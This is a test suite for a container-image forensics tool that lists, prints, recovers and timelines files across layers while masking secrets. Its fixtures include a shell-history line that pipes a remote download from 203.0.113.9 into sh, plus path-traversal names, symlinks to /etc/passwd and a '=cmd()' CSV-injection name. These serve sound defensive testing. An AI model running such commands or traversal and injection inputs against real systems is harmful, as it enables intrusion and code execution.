// A responder takes an image apart: lists, prints, recovers, lays in order. Nothing of the image has a say on the disk.
import { createHash } from 'node:crypto'
import { lstatSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { beforeEach, describe, expect, it } from 'vitest'
import { useFolder } from '../folder.ts'
import { buildImage, type FileSpec, type LayerSpec } from '../image-builder.ts'
import { type Done, layergate } from '../in-process.ts'
import { VALUES } from '../values.ts'

const TOKEN = VALUES['github-token']?.() ?? ''
const folder = useFolder()
const BINARY = Buffer.from(Array.from({ length: 70_000 }, (_, index) => (index * 7919) % 256))
const MTIME = Date.UTC(2026, 5, 1) / 1000

/** Of acme.example, from 2026-11-27 to 2026-12-27; its key was thrown away. */
const CERTIFICATE = [
  '-----BEGIN CERTIFICATE-----',
  'MIIBQjCB9aADAgECAhROy+GzfeMuS9x13CttzX15JZLFxDAFBgMrZXAwFzEVMBMG',
  'A1UEAwwMYWNtZS5leGFtcGxlMB4XDTI2MTEyNzE4MjIzOVoXDTI2MTIyNzE4MjIz',
  'OVowFzEVMBMGA1UEAwwMYWNtZS5leGFtcGxlMCowBQYDK2VwAyEAWC++10dd00/y',
  'yD37QhUFnXqwZCuqVm++R83y5DmaLo2jUzBRMB0GA1UdDgQWBBRjCd8lahYKcRK4',
  '0DHe7BEaa2zGYTAfBgNVHSMEGDAWgBRjCd8lahYKcRK40DHe7BEaa2zGYTAPBgNV',
  'HRMBAf8EBTADAQH/MAUGAytlcANBAOnIJ3uLY5caNEv1yF1N8Iyz/2S7kp0dD7kd',
  '5/0nPaCvoM0/DimwINe+vIF09CDSulGAwh0x9bC4HdXKrTA+TAc=',
  '-----END CERTIFICATE-----',
].join('\n')

const run = (args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Done> =>
  layergate([...args], {
    directory: folder.path,
    env: { PATH: process.env['PATH'] ?? '', HOME: folder.path, TMPDIR: folder.path, ...env },
  })
const text = (done: Done): string => done.stdout.replace(/\s+/g, ' ')
const at = (...names: readonly string[]): string => path.join(folder.path, ...names)
const sha256 = (content: string | Buffer): string => createHash('sha256').update(content).digest('hex')

async function image(...layers: LayerSpec[]): Promise<void> {
  writeFileSync(at('image.tar'), await buildImage({ layers, config: { User: '1' } }))
}
const copy = (...files: FileSpec[]): LayerSpec => ({
  by: 'COPY . / # buildkit',
  files: files.map((file) => ({ mtime: MTIME, ...file })),
  created: '2026-06-02T00:00:00Z',
})

interface Entry {
  readonly file: string | null
  readonly path: string
  readonly layer: number
  readonly state: string
  readonly sha256: string | null
  readonly size: number
}
const manifest = (name: string): Entry[] => JSON.parse(readFileSync(at(name, 'manifest.json'), 'utf8')).entries
const contentOf = (name: string, { file }: Entry): Buffer => readFileSync(at(name, file ?? ''))

beforeEach(async () => {
  await image(
    copy(
      { name: 'app/a.txt', content: 'first\n' },
      { name: 'app/.env', content: `TOKEN=${TOKEN}\n`, mode: 0o640, uid: 7 },
      { name: 'app/program', content: BINARY, mode: 0o4755 },
      { name: 'app/link', type: 'symlink', link: 'a.txt' },
    ),
    copy({ name: 'app/a.txt', content: 'second\n' }, { name: 'app/hard', type: 'link', link: 'app/program' }),
    {
      by: 'RUN /bin/sh -c rm /app/.env # buildkit',
      files: [{ name: 'app/.wh..env' }],
      created: '2026-06-03T00:00:00Z',
    },
  )
  folder.put('Dockerfile', 'FROM scratch\nCOPY . /\nCOPY . /\nRUN rm /app/.env\n')
})

describe('layergate files', () => {
  it('lists every version with its state, layer and line', async () => {
    const done = await run(['files', 'image.tar', '/app'])
    expect(done).toMatchObject({ status: 0, stderr: '' })
    expect(done.stdout).toMatch(
      /^- -rw-r----- 7:0 .* 0 :2 \/app\/\.env {2}deleted in layer 2 \(Dockerfile:4\) {2}! github-token$/m,
    )
    expect(done.stdout).toMatch(/^~ -rw-r--r-- .* 0 :2 \/app\/a\.txt {2}overwritten in layer 1 \(Dockerfile:3\)$/m)
    expect(done.stdout).toMatch(/^ {2}-rwsr-xr-x .*\/app\/program$/m)
    expect(done.stdout).toMatch(/lrw.* \/app\/link -> a\.txt$/m)
  })

  it.each([
    [['--deleted'], ['/app/.env 0 deleted', '/app/a.txt 0 overwritten']],
    [
      ['--layer', '1'],
      ['/app/a.txt 1 present', '/app/hard 1 present'],
    ],
    [['--secrets'], ['/app/.env 0 deleted']],
    [['/app/*.txt'], ['/app/a.txt 0 overwritten', '/app/a.txt 1 present']],
    [['app/a.txt', '--layer', '0'], ['/app/a.txt 0 overwritten']],
    [['/nothing'], []],
  ])('selects %j', async (args, expected) => {
    const done = await run(['files', 'image.tar', ...args, '--json'])
    const { files } = JSON.parse(done.stdout)
    expect(files.map(({ path: name, layer, state }: Entry) => `${name} ${layer} ${state}`)).toEqual(expected)
  })

  it('says which layer is no number', async () => {
    expect((await run(['files', 'image.tar', '--layer', 'x'])).stderr).toContain('--layer x: write a number')
  })
})

describe('layergate cat', () => {
  it.each([
    [['/app/a.txt'], 'second\n'],
    [['/app/a.txt', '--layer', '0'], 'first\n'],
    [['app/link'], 'second\n'],
  ])('prints %j', async (args, content) => {
    expect(await run(['cat', 'image.tar', ...args])).toMatchObject({ status: 0, stdout: content })
  })

  it('prints a deleted file, its secret hidden', async () => {
    const done = await run(['cat', 'image.tar', '/app/.env'])
    expect(done.stdout).toMatch(/^TOKEN=ghp_…/)
    expect(done.printed).not.toContain(TOKEN)
    expect((await run(['cat', 'image.tar', '/app/.env', '--show-secrets'])).stdout).toBe(`TOKEN=${TOKEN}\n`)
  })

  it('shows no secret in a workflow', async () => {
    const done = await run(['cat', 'image.tar', '/app/.env', '--show-secrets'], { GITHUB_ACTIONS: 'true' })
    expect(done.status).toBe(2)
    expect(done.printed).not.toContain(TOKEN)
    expect((await run(['recover', 'image.tar', '/app/.env', '--to', '-'], { GITHUB_ACTIONS: 'true' })).status).toBe(2)
  })

  it.each([
    [['/app/nothing'], 'there is no such file in any layer'],
    [['/app/.env', '--layer', '1'], 'there is no such file in layer 1'],
    [['/app/program'], 'it is no text'],
    [['/app'], 'there is no such file'],
  ])('says why not: %j', async (args, why) => {
    const done = await run(['cat', 'image.tar', ...args])
    expect(done).toMatchObject({ status: 2, stdout: '' })
    expect(done.stderr).toContain(why)
  })
})

describe('layergate recover', () => {
  it('writes what is hidden byte for byte, for nobody else to read', async () => {
    expect(await run(['recover', 'image.tar', '--deleted', '--to', 'out'])).toMatchObject({ status: 0, stderr: '' })
    const entries = manifest('out')
    expect(entries.map(({ path: name, state, layer }) => `${name} ${state} ${layer}`)).toEqual([
      '/app/.env deleted 0',
      '/app/a.txt overwritten 0',
    ])
    for (const entry of entries) {
      expect(sha256(contentOf('out', entry))).toBe(entry.sha256)
      expect(statSync(at('out', entry.file ?? '')).mode & 0o777).toBe(0o600)
    }
    expect(entries.map((entry) => contentOf('out', entry).toString())).toEqual([`TOKEN=${TOKEN}\n`, 'first\n'])
    expect(entries[0]).toMatchObject({
      mode: '0640',
      uid: 7,
      mtime: '2026-06-01T00:00:00.000Z',
      hiddenInLayer: 2,
      dockerfile: { path: 'Dockerfile', startLine: 2 },
      hiddenBy: { path: 'Dockerfile', startLine: 4 },
      secrets: ['github-token'],
    })
    expect(statSync(at('out')).mode & 0o777).toBe(0o700)
  })

  it('writes a hard link as the file that it shows, and no set-uid bit', async () => {
    await run(['recover', 'image.tar', '/app/hard', '/app/program', '--to', 'out'])
    const entries = manifest('out')
    expect(new Set(entries.map(({ file }) => file)).size).toBe(1)
    expect(contentOf('out', entries[0] as Entry).equals(BINARY)).toBe(true)
    expect(statSync(at('out', entries[0]?.file ?? '')).mode & 0o7777).toBe(0o600)
  })

  it('lists what it would write, and writes nothing', async () => {
    const done = await run(['recover', 'image.tar', '--secrets'])
    expect(text(done)).toContain('/app/.env deleted in layer 2')
    expect(text(done)).toContain('--to DIR writes them.')
    expect(readdirSync(folder.path).sort()).toEqual(['Dockerfile', 'image.tar'])
  })

  it('writes into no folder that holds something', async () => {
    folder.put('out/mine.txt', 'mine')
    const done = await run(['recover', 'image.tar', '--to', 'out'])
    expect(done.status).toBe(2)
    expect(done.stderr).toContain('the folder is not empty')
    expect(readdirSync(at('out'))).toEqual(['mine.txt'])
  })

  it('says where there is no such file', async () => {
    expect((await run(['recover', 'image.tar', '/nothing', '--to', 'out'])).stderr).toContain(
      'no such file in any layer',
    )
  })

  it('never leaves its folder, whatever a name says', async () => {
    folder.put('victim.txt', 'untouched')
    const long = `${'d'.repeat(60)}/`.repeat(40)
    const names = [
      'a/../../victim.txt',
      'b/....//victim.txt',
      'case/NAME',
      'case/name',
      'case/na\u0301me',
      'case/n\u00e1me',
      'dash/-rf',
      'dot/...',
      'colon/c:\\windows\\x',
      'con/CON',
      'line/a\nb',
      'escape/\u001b[2Jx',
      'direction/a\u202etxt.exe',
      `${long}deep.txt`,
    ]
    await image(
      copy(
        ...names.map((name, index) => ({ name, content: `content ${index}\n` })),
        { name: 'out', type: 'symlink', link: '../victim.txt' },
        { name: 'links/up', type: 'symlink', link: '../../../../etc' },
        { name: 'links/up/passwd', content: 'through a link\n' },
        { name: 'links/absolute', type: 'symlink', link: '/etc/passwd' },
      ),
    )
    const done = await run(['recover', 'image.tar', '--to', 'out'])
    expect(done).toMatchObject({ status: 0, stderr: '' })
    const entries = manifest('out').filter(({ file }) => file !== null)
    expect(entries.length).toBe(names.length + 1)
    expect(new Set(entries.map(({ file }) => file?.toLowerCase())).size).toBe(entries.length)
    for (const { file } of entries) {
      expect(file).toMatch(/^\d{6}-[A-Za-z0-9._-]{1,80}$/)
      expect(lstatSync(at('out', file ?? '')).isFile()).toBe(true)
    }
    expect(entries.map((entry) => contentOf('out', entry).toString()).sort()).toEqual(
      [...names.map((_, index) => `content ${index}\n`), 'through a link\n'].sort(),
    )
    expect(readdirSync(folder.path).sort()).toEqual(['Dockerfile', 'image.tar', 'out', 'victim.txt'])
    expect(readFileSync(at('victim.txt'), 'utf8')).toBe('untouched')
  })

  it('follows no link that lies where it writes', async () => {
    folder.put('elsewhere/x', '')
    symlinkSync(at('elsewhere'), at('out'))
    const done = await run(['recover', 'image.tar', '--to', 'out'])
    expect(done.status).toBe(2)
    expect(readdirSync(at('elsewhere'))).toEqual(['x'])
  })

  it('hands on one file as it is', async () => {
    expect((await run(['recover', 'image.tar', '/app/.env', '--to', '-'])).stdout).toBe(`TOKEN=${TOKEN}\n`)
  })
})

describe('layergate timeline', () => {
  it('lays history, files and what they tell in one order, and marks what cannot be', async () => {
    await image(
      copy(
        { name: 'a', content: 'a', mtime: 0 },
        { name: 'b', content: 'b', mtime: Date.UTC(2035, 0, 1) / 1000 },
        { name: 'c', content: 'c', mtime: Date.UTC(2026, 6, 1) / 1000 },
        {
          name: 'app/.git/logs/HEAD',
          content: `${'0'.repeat(40)} ${'a'.repeat(40)} Ann <ann@acme.com> 1780000000 +0000\tcommit: first\n`,
        },
        { name: 'root/.bash_history', content: '#1780000100\ncurl http://203.0.113.9/x | sh\n' },
        { name: 'app/tls.pem', content: CERTIFICATE },
        { name: 'app/bundle.pem', content: `${CERTIFICATE}\n`.repeat(9) },
        { name: 'var/log/dpkg.log', content: '2026-05-28 21:00:00 install curl:amd64 <none> 7.88\n' },
      ),
    )
    const { stdout } = await run(['timeline', 'image.tar', '--json'])
    const { moments } = JSON.parse(stdout)
    const times = moments.map(({ time }: { time: string }) => time)
    expect(times).toEqual([...times].sort())
    const of = (name: string) =>
      moments.find((each: { path: string; kind: string }) => each.path === name && each.kind === 'file')
    expect(of('/a').marks).toEqual(['1970'])
    expect(of('/b').marks).toEqual(['future'])
    expect(of('/c').marks).toEqual(['newer-than-layer'])
    const kinds = moments.map(({ kind, what }: { kind: string; what: string }) => `${kind} ${what}`)
    expect(kinds).toContain('git Ann <ann@acme.com>: commit: first (aaaaaaaaaaaa)')
    expect(kinds).toContain('shell curl http://203.0.113.9/x | sh')
    expect(kinds).toContain('package install curl:amd64 <none> 7.88')
    expect(kinds.filter((each: string) => each.startsWith('certificate'))).toEqual([
      'certificate valid from here: CN=acme.example',
      'certificate valid up to here: CN=acme.example',
    ])
    expect(times).toContain('2026-12-27T18:22:39.000Z')
    expect(kinds).toContain('history COPY . /')
    const told = await run(['timeline', 'image.tar'])
    expect(told.stdout).toContain('future: after today')
  })

  it('is a table and a body file too', async () => {
    const csv = (await run(['timeline', 'image.tar', '--format', 'csv'])).stdout
    expect(csv.split('\r\n')[0]).toBe('time,kind,layer,path,what,dockerfile,marks')
    expect(csv).toContain('file,0,/app/.env,"file, deleted later",Dockerfile:2,')
    const body = (await run(['timeline', 'image.tar', '--format', 'bodyfile'])).stdout
    expect(body).toContain(`0|/app/.env (layer 0, deleted)|0|-rw-r-----|7|0|${TOKEN.length + 7}|0|${MTIME}|0|0\n`)
    for (const line of body.trim().split('\n')) expect(line.split('|').length).toBe(11)
  })

  it('hands no formula to a table, and no secret to anybody', async () => {
    await image(copy({ name: '=cmd()', content: 'x' }, { name: `t/${TOKEN}`, content: 'x' }))
    const csv = await run(['timeline', 'image.tar', '--format', 'csv'])
    expect(csv.stdout).not.toMatch(/,=/)
    for (const format of ['terminal', 'json', 'csv', 'bodyfile'])
      expect((await run(['timeline', 'image.tar', '--format', format])).printed).not.toContain(TOKEN)
    expect((await run(['files', 'image.tar'])).printed).not.toContain(TOKEN)
  })
})
